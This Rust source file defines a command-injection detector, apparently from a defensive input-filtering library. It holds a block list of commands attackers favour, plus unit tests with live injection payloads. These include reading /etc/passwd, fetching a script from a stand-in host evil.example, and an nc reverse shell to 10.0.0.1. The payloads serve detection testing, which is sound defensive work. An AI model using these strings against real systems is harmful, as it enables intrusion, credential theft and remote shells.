//! OS command injection, read the way a shell would: a command separator or substitution
//! (`;`, `|`, `&&`, `||`, a newline, `` `…` ``, `$(…)`) followed by a command word that
//! shells run. Markdown backticks around words that are not commands stay clean.

use crate::{signal, Detector};
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
use palisade_normalize::Value;
use palisade_types::{Category, Signal};

/// Commands attackers run first: recon, download-and-run, shells, reverse connections.
const COMMANDS: &[&str] = &[
    "cat",
    "ls",
    "id",
    "whoami",
    "uname",
    "pwd",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "dash",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "ping",
    "nslookup",
    "dig",
    "sleep",
    "echo",
    "rm",
    "chmod",
    "chown",
    "kill",
    "ps",
    "netstat",
    "ifconfig",
    "ip",
    "env",
    "printenv",
    "head",
    "tail",
    "more",
    "less",
    "cp",
    "mv",
    "touch",
    "mkfifo",
    "telnet",
    "ssh",
    "scp",
    "powershell",
    "cmd",
    "cmd.exe",
    "net",
    "ipconfig",
    "systeminfo",
    "tasklist",
    "certutil",
    "bitsadmin",
    "type",
    "dir",
    "base64",
    "xxd",
    "nohup",
    "crontab",
    "useradd",
    "passwd",
    "hostname",
    "find",
    "grep",
    "awk",
    "sed",
    "tftp",
    "ftp",
    "busybox",
    "timeout",
    "exec",
    "eval",
    "/bin/sh",
    "/bin/bash",
    "/usr/bin/id",
    "/bin/cat",
];

pub struct Rce {
    /// Separators and substitutions that let a value start a new command.
    separators: AhoCorasick,
}

impl Rce {
    pub fn new() -> Self {
        Rce {
            separators: AhoCorasickBuilder::new()
                .kind(Some(AhoCorasickKind::DFA))
                .match_kind(MatchKind::LeftmostLongest)
                .build([";", "|", "&&", "||", "\n", "`", "$(", "${IFS}", "&"])
                // The pattern list is a constant; building its automaton cannot fail.
                .unwrap_or_else(|_| unreachable!()),
        }
    }

    fn first_word(s: &str) -> &str {
        let s = s.trim_start_matches(|c: char| {
            c.is_whitespace() || matches!(c, '(' | '{' | '\'' | '"' | '!')
        });
        let end = s
            .find(|c: char| {
                c.is_whitespace()
                    || matches!(
                        c,
                        ';' | '|' | '&' | '`' | ')' | '<' | '>' | '$' | '\'' | '"' | '}'
                    )
            })
            .unwrap_or(s.len());
        &s[..end]
    }

    fn check(&self, text: &str) -> Option<f32> {
        for m in self.separators.find_iter(text) {
            let sep = &text[m.start()..m.end()];
            let rest = &text[m.end()..];
            let word = Self::first_word(rest).to_ascii_lowercase();
            let word = word.replace(['\'', '"', '\\'], "");
            let base = word.rsplit('/').next().unwrap_or(&word);
            let is_cmd = COMMANDS.contains(&word.as_str())
                || (word.starts_with('/') && COMMANDS.contains(&base));
            if !is_cmd {
                continue;
            }
            // In prose, "a; cat" or "x | more" read as text: require something shell-like after
            // the command (an argument with '/', '-', '$', a redirection), or a substitution.
            let word_raw = Self::first_word(rest);
            let after = &rest[rest.find(word_raw).map_or(0, |p| p + word_raw.len())..];
            let argish = after.trim_start().starts_with([
                '-', '/', '$', '<', '>', '|', ';', '`', '\'', '"', '.', '~', '%',
            ]) || after.trim().is_empty()
                || after.contains("/");
            let substitution = matches!(sep, "`" | "$(");
            if substitution && (rest.contains('`') || rest.contains(')')) {
                return Some(0.95);
            }
            if argish && (sep != "&" || after.trim_start().starts_with(['-', '/'])) {
                return Some(if after.trim().is_empty() { 0.75 } else { 0.9 });
            }
        }
        None
    }
}

impl Default for Rce {
    fn default() -> Self {
        Rce::new()
    }
}

impl Detector for Rce {
    fn name(&self) -> &'static str {
        "rce"
    }

    fn inspect(&self, value: &Value, out: &mut Vec<Signal>) {
        if let Some(c) = self.check(value.text()) {
            out.push(signal("rce", Category::Rce, c, value, value.text()));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::value;

    fn hit(s: &str) -> bool {
        let mut out = Vec::new();
        Rce::new().inspect(&value(s), &mut out);
        !out.is_empty()
    }

    #[test]
    fn command_chains_are_caught() {
        for s in [
            "; cat /etc/passwd",
            "127.0.0.1 | id",
            "x && wget http://evil.example/a.sh",
            "`whoami`",
            "$(id)",
            "a;/bin/sh -i",
            "1 | nc 10.0.0.1 4444 -e /bin/sh",
            "test\nls -la",
        ] {
            assert!(hit(s), "missed: {s}");
        }
    }

    #[test]
    fn markdown_and_prose_stay_clean() {
        for s in [
            "Use `setTimeout` to defer",
            "Tom & Jerry",
            "salt; pepper; cat food",
            "this | that",
            "see `README.md`",
            "a && b are both true",
        ] {
            assert!(!hit(s), "false positive: {s}");
        }
    }
}
